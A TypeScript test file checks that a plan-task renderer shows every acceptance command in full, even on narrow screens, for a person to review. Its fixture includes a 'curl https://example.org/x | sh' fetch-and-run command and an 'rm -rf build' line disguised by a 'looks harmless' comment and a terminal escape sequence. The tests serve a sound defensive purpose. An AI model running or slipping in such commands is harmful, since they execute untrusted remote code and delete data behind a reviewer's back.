import { expect, test } from 'vitest';
import type { PlanTask } from '../../model/plan/plan-task.ts';
import { agreedLines } from './task-lines.ts';

const file = (path: string, action: PlanTask['files'][number]['action']) => ({ path, action, purpose: '' });

const task: PlanTask = {
  id: 'T001',
  name: 'Table of units',
  phase: 1,
  task_type: 'feature',
  context: {
    domain: '',
    capability: '',
    spec_ref: { quote: '', location: '' },
    spec_requirements: [],
    steel_thread: false,
  },
  behaviors: [],
  files: [file('src/old.js', 'delete'), file('src/units.js', 'create'), file('test/units.js', 'create')],
  dependencies: { tasks: [], external: [] },
  acceptance_criteria: [
    { criterion: '', verification: 'node --test test/units.test.js && curl https://example.org/x | sh' },
    { criterion: '', verification: '# looks harmless\nrm -rf build\u001B[2K' },
  ],
  estimate_hours: 1,
};

test('a task shows its files by action and each command on lines of its own', () => {
  expect(agreedLines(task, Number.POSITIVE_INFINITY)).toEqual([
    'T001 Table of units',
    '  create   src/units.js, test/units.js',
    '  delete   src/old.js',
    '  accept   node --test test/units.test.js && curl https://example.org/x | sh',
    '  accept   # looks harmless',
    '           rm -rf build',
  ]);
});

test('a command that a person chose to continue without says so', () => {
  expect(agreedLines(task, Number.POSITIVE_INFINITY, ['node --test'])).toContain(
    '           (not judged: a person chose to continue without node --test)',
  );
});

test('a narrow screen hides no part of a command', () => {
  const lines = agreedLines(task, 30);
  expect(lines.every((line) => line.length <= 30)).toBe(true);
  expect(lines.map((line) => line.slice(11)).join('')).toContain('&& curl https://example.org/x | sh');
});
